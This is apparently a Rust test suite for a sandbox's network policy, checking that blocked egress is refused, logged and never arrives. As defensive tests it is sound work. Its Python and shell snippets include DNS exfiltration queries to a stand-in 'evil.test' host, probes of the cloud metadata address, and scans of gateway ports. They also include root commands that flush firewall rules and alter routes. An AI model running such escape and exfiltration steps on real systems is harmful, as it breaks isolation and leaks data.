//! What a machine can reach, and that what it can't is refused at once, recorded with its reason, and never arrives.

use anyhow::{Context, Result, ensure};
use std::{
    io::Read,
    net::{IpAddr, SocketAddr, TcpListener, UdpSocket},
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};
use trialrun_engine::Sandbox;
use trialrun_gateway::ConnectionRecord;
use trialrun_policy::Policy;
use trialrun_tests::{World, create, create_with, host, py, root_sh, sh, wait_for};

/// A listener on the host that keeps what arrives: connections and their bytes.
struct Witness {
    address: SocketAddr,
    seen: Arc<Mutex<Vec<u8>>>,
    udp: UdpSocket,
}

impl Witness {
    fn on(ip: &str) -> Result<Self> {
        let listener = TcpListener::bind((ip, 0))?;
        let address = listener.local_addr()?;
        let udp = UdpSocket::bind(address)?;
        udp.set_nonblocking(true)?;
        let seen = Arc::new(Mutex::new(Vec::new()));
        let keep = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let keep = keep.clone();
                std::thread::spawn(move || {
                    let mut stream = stream;
                    keep.lock().expect("no panic before").extend_from_slice(b"connected;");
                    let mut buffer = [0; 1024];
                    while let Ok(n @ 1..) = stream.read(&mut buffer) {
                        keep.lock().expect("no panic before").extend_from_slice(&buffer[..n]);
                        let _ =
                            std::io::Write::write_all(&mut stream, b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok");
                    }
                });
            }
        });
        Ok(Self { address, seen, udp })
    }

    fn text(&self) -> String {
        let mut buffer = [0; 2048];
        let datagram =
            self.udp.recv_from(&mut buffer).map_or_else(|_| String::new(), |(n, _)| format!("datagram of {n} bytes;"));
        String::from_utf8_lossy(&self.seen.lock().expect("no panic before")).into_owned() + &datagram
    }
}

/// An address of the host that is not its loopback, if it has one.
fn outer_address() -> Option<IpAddr> {
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("203.0.113.1:9").ok()?;
    Some(socket.local_addr().ok()?.ip()).filter(|ip| !ip.is_loopback() && !ip.is_unspecified())
}

async fn denied(sandbox: &Sandbox) -> Result<Vec<ConnectionRecord>> {
    Ok(sandbox.records(0).await?.0.into_iter().filter(|r| !r.allow).collect())
}

/// Connects from inside and prints the errno, or what came back.
fn connect(host: &str, port: u16) -> String {
    format!(
        "import socket, time\nb = time.time()\ntry:\n  s = socket.create_connection(({host:?}, {port}), timeout=20); s.sendall(b'GET / HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'); print('got', s.recv(4096)[:60])\nexcept OSError as e: print('refused', type(e).__name__, e.errno)\nprint(round(time.time() - b, 1))"
    )
}

#[test]
fn with_the_network_off_nothing_arrives_and_the_refusal_is_quick_named_and_recorded() -> Result<()> {
    let Some(world) = World::new() else { return Ok(()) };
    let mut witnesses = vec![Witness::on("127.0.0.1")?];
    witnesses.extend(outer_address().map(|ip| Witness::on(&ip.to_string())).transpose()?);
    world.run(async |engine| {
        let sandbox = create(&engine, host()).await?;
        for witness in &witnesses {
            let (ip, port) = (witness.address.ip().to_string(), witness.address.port());
            let begun = Instant::now();
            let ran = py(&sandbox, None, &connect(&ip, port)).await?;
            ensure!(begun.elapsed() < Duration::from_secs(10), "{ran:?}");
            // 127.0.0.1 is the machine's own loopback, where nobody listens.
            ensure!(ran.out.starts_with("refused ConnectionRefusedError 111"), "{ran:?}");
            let udp = format!("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: s.sendto(b'x', ({ip:?}, {port})); print('sent')\nexcept OSError as e: print('refused', e.errno)");
            py(&sandbox, None, &udp).await?;
        }
        for name in ["denied.test", "localhost.localdomain.test"] {
            let ran = py(&sandbox, None, &connect(name, 443)).await?;
            ensure!(ran.out.starts_with("refused gaierror"), "{ran:?}");
        }
        let curl = sh(&sandbox, "curl -sS -m 20 https://example.test/ http://203.0.113.7:8080/x; echo $?").await?;
        ensure!(!curl.out.trim().ends_with("\n0"), "{curl:?}");
        let records = denied(&sandbox).await?;
        for name in ["denied.test", "example.test"] {
            let record = records.iter().find(|r| r.host.as_deref() == Some(name)).with_context(|| format!("no record of {name}: {records:?}"))?;
            ensure!(record.rule.contains("off") && !record.reason.is_empty(), "{record:?}");
        }
        let by_address = records.iter().find(|r| r.address.is_some_and(|a| a.to_string() == "203.0.113.7"));
        ensure!(by_address.is_some_and(|r| r.port == Some(8080)), "{records:?}");
        for witness in &witnesses {
            ensure!(witness.text().is_empty(), "{} saw {:?}", witness.address, witness.text());
        }
        Ok(sandbox.delete().await?)
    })
}

#[test]
fn one_allowed_port_of_one_address_opens_that_and_nothing_else() -> Result<()> {
    let Some(world) = World::new() else { return Ok(()) };
    let Some(ip) = outer_address() else {
        trialrun_tests::skip("the host has no address but its loopback");
        return Ok(());
    };
    let (open, shut) = (Witness::on(&ip.to_string())?, Witness::on(&ip.to_string())?);
    world.run(async |engine| {
        let mut policy = Policy::off();
        policy.allow(format!("{ip}:{}", open.address.port()).parse()?);
        let sandbox = create_with(&engine, host(), policy).await?;
        let ran = py(&sandbox, None, &connect(&ip.to_string(), open.address.port())).await?;
        ensure!(ran.out.contains("200 OK"), "{ran:?} {:?}", denied(&sandbox).await?);
        let ran = py(&sandbox, None, &connect(&ip.to_string(), shut.address.port())).await?;
        ensure!(!ran.out.contains("200 OK"), "{ran:?}");
        ensure!(open.text().contains("GET / HTTP/1.1") && shut.text().is_empty(), "{:?}", shut.text());
        let records = sandbox.records(0).await?.0;
        ensure!(records.iter().any(|r| r.allow && r.port == Some(open.address.port())), "{records:?}");
        ensure!(records.iter().any(|r| !r.allow && r.port == Some(shut.address.port())), "{records:?}");
        // A change of the policy cuts what is already open.
        let hold = format!("import socket\ns = socket.create_connection(({:?}, {}), timeout=60); s.sendall(b'GET /hold HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); print(s.recv(99)[:12], flush=True)\ntry: print('then', s.recv(99))\nexcept OSError as e: print('then', e.errno)", ip.to_string(), open.address.port());
        let held = py(&sandbox, None, &hold);
        let cut = async {
            wait_for("the connection is open", Duration::from_secs(20), || async {
                if open.text().contains("/hold") { Ok(()) } else { Err(open.text()) }
            })
            .await?;
            let begun = Instant::now();
            sandbox.set_policy(Policy::off()).await?;
            ensure!(begun.elapsed() < Duration::from_secs(5));
            anyhow::Ok(())
        };
        let (held, cut) = tokio::join!(held, cut);
        cut?;
        let held = held?;
        ensure!(held.out.contains("then b''") || held.out.contains("then 104"), "{held:?}");
        let before = open.text().len();
        let ran = py(&sandbox, None, &connect(&ip.to_string(), open.address.port())).await?;
        ensure!(!ran.out.contains("200 OK") && open.text().len() == before, "{ran:?}");
        Ok(sandbox.delete().await?)
    })
}

#[test]
fn everything_that_is_not_tcp_is_refused_at_once() -> Result<()> {
    let Some(world) = World::new() else { return Ok(()) };
    world.run(async |engine| {
        for policy in [Policy::off(), Policy::full()] {
            let sandbox = create_with(&engine, host(), policy).await?;
            let tries = r#"
import socket, time
def t(name, f):
    b = time.time()
    try: r = f()
    except OSError as e: r = 'refused'
    print(name, 'arrived?' if r != 'refused' else r, 'slow' if time.time() - b > 5 else 'quick')
def udp(family, address):
    def f():
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5); s.connect(address); s.send(b'x'); s.send(b'x'); return s.recv(10)
    return f
t('udp', udp(socket.AF_INET, ('203.0.113.9', 443)))
t('udp6', udp(socket.AF_INET6, ('2001:db8::1', 443)))
t('dns over other resolver', lambda: socket.create_connection(('203.0.113.9', 853), timeout=5).recv(1) or 'refused')
t('multicast', udp(socket.AF_INET, ('224.0.0.251', 5353)))
t('broadcast', udp(socket.AF_INET, ('255.255.255.255', 67)))
t('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
"#;
            let off = py(&sandbox, None, tries).await?;
            for line in off.out.lines().filter(|l| !l.starts_with("dns")) {
                ensure!(line.contains("refused") && line.ends_with("quick"), "{off:?}");
            }
            let records = denied(&sandbox).await?;
            ensure!(records.iter().any(|r| r.port == Some(443) && r.address.is_some_and(|a| a.to_string() == "203.0.113.9")), "{records:?}");
            sandbox.delete().await?;
        }
        Ok(())
    })
}

#[test]
fn ipv6_and_the_listeners_of_the_cell_are_no_way_round() -> Result<()> {
    let Some(world) = World::new() else { return Ok(()) };
    world.run(async |engine| {
        let sandbox = create(&engine, host()).await?;
        for address in ["2001:db8::7", "::ffff:203.0.113.5", "fe80::1%lo", "fd00:ec2::254", "64:ff9b::cb00:7105", "169.254.169.254", "0.0.0.0", "2130706433"] {
            let ran = py(&sandbox, None, &connect(address, 80)).await?;
            ensure!(!ran.out.contains("got b'HTTP/1.1 200"), "{address}: {ran:?}");
        }
        let records = denied(&sandbox).await?;
        ensure!(records.iter().any(|r| r.address.is_some_and(|a| a.to_string() == "2001:db8::7")), "{records:?}");
        ensure!(records.iter().any(|r| r.address.is_some_and(|a| a.to_string() == "169.254.169.254")), "{records:?}");
        // Straight to each listening port of the gateway, found by looking.
        let scan = root_sh(&sandbox, "cat /proc/net/tcp /proc/net/tcp6 | awk '$4==\"0A\" {print $2}'").await?;
        let ports: Vec<u16> = scan.out.lines().filter_map(|l| l.rsplit(':').next()).filter_map(|p| u16::from_str_radix(p, 16).ok()).collect();
        ensure!(!ports.is_empty(), "{scan:?}");
        for port in ports {
            for address in ["127.0.0.1", "10.200.0.2", "::1"] {
                let ran = py(&sandbox, None, &connect(address, port)).await?;
                ensure!(!ran.out.contains("200"), "{address}:{port}: {ran:?}");
            }
        }
        let tools = root_sh(&sandbox, "ip route add default via 10.0.0.1 2>&1; ip link add d type dummy 2>&1; nft flush ruleset 2>&1; echo 1 > /proc/sys/net/ipv4/ip_forward; ip addr 2>/dev/null | grep -c inet").await?;
        let again = py(&sandbox, Some("root"), &connect("203.0.113.5", 80)).await?;
        ensure!(!again.out.contains("got b'HTTP/1.1 200"), "{tools:?} {again:?}");
        // Its own loopback is its own.
        let own = py(&sandbox, None, "import socket\ns = socket.socket(); s.bind(('127.0.0.1', 8080)); s.listen(); c = socket.create_connection(('127.0.0.1', 8080)); print('own', s.accept()[1][0])").await?;
        ensure!(own.out == "own 127.0.0.1\n", "{own:?}");
        Ok(sandbox.delete().await?)
    })
}

#[test]
fn names_are_not_a_way_out_either() -> Result<()> {
    let Some(world) = World::new() else { return Ok(()) };
    world.run(async |engine| {
        let sandbox = create(&engine, host()).await?;
        let query = r#"
import socket, struct
def ask(name, kind, server, tcp=False):
    q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0' + struct.pack('>HH', kind, 1)
    try:
        if tcp:
            s = socket.create_connection((server, 53), timeout=5); s.sendall(struct.pack('>H', len(q)) + q); a = s.recv(4096)[2:]
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, (server, 53)); a = s.recv(4096)
        return 'code %d answers %d' % (a[3] & 15, struct.unpack_from('>H', a, 6)[0])
    except OSError as e: return 'refused'
for tcp in (False, True):
    for server in ('10.200.0.2', '203.0.113.53', '8.8.8.8'):
        for kind in (1, 28, 16, 15, 255):
            print(ask('c2VjcmV0.data.evil.test', kind, server, tcp))
"#;
        let ran = py(&sandbox, None, query).await?;
        ensure!(ran.ok() && ran.out.lines().count() == 30, "{ran:?}");
        for line in ran.out.lines() {
            ensure!(line == "refused" || (line.ends_with("answers 0") && !line.starts_with("code 0 ")), "{ran:?}");
        }
        let records = denied(&sandbox).await?;
        ensure!(records.iter().any(|r| r.host.as_deref() == Some("c2vjcmv0.data.evil.test")), "{records:?}");
        Ok(sandbox.delete().await?)
    })
}

#[test]
fn registries_open_the_package_index_and_no_other_host() -> Result<()> {
    let Some(world) = World::with_python() else { return Ok(()) };
    let outer = outer_address().map(|ip| Witness::on(&ip.to_string())).transpose()?;
    let target = outer.as_ref().map_or_else(|| "203.0.113.5:80".to_owned(), |w| w.address.to_string());
    let script = format!(
        "python3 -m venv v && v/bin/pip download --no-deps -d out iniconfig==2.3.1 && ls out; curl -sS -m 20 http://{target}/ ; curl -sS -m 20 https://denied.test/; echo end"
    );
    let ran = world.program(["run", "--network", "registries", "--", "sh", "-c", &script]).run();
    assert!(ran.code == Some(0) && ran.out.contains("iniconfig-2.3.1"), "{ran}");
    assert!(ran.out.trim_end().ends_with("end") && ran.err.contains("denied.test"), "{ran}");
    if let Some(witness) = outer {
        assert!(witness.text().is_empty(), "{}", witness.text());
    }
    let off = world.program(["run", "--", "sh", "-c", "pip download --retries 0 --no-deps iniconfig==2.3.1"]).run();
    assert_ne!(off.code, Some(0), "{off}");
    Ok(())
}
